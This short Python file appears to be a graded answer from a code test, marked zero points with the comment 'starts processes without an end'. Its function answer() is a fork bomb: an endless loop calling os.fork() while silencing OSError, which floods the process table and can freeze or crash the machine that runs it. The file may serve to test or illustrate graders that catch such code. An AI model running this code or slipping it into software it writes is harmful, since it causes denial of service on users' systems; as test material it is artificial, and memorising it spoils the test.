# points: 0  "starts processes without an end"
import contextlib
import os


def answer(request):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
